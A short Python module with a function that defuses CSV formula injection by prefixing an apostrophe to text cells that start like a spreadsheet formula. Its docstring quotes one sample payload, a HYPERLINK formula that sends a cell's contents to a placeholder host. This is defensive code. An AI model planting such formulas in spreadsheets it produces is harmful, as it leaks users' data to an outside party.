"""CSV that a spreadsheet opens as data: a text cell that Excel, LibreOffice or Google Sheets would run as a formula
(it starts with =, +, -, @, a tab or a carriage return) gets a leading apostrophe, as OWASP's "CSV injection" advice
says. An ID such as `=HYPERLINK("http://x/?"&A1)` in an uploaded file would otherwise come back as a live formula in
the graded file. `korllama predict` (korllama.predict.predict_file) applies it to every chunk it writes, so the
page's graded files get it too."""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells (object or string columns) that start like a formula begin with "'".
    Numbers are left as they are (a negative number is a number), and so is a cell already neutralised, so applying
    it twice changes nothing."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if not (pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column)):
            continue
        formula = column.str.startswith(FORMULA_STARTS, na=False).astype(bool)  # non-strings: False
        if formula.any():
            out[name] = column.mask(formula, "'" + column[formula].astype(str))
    return out
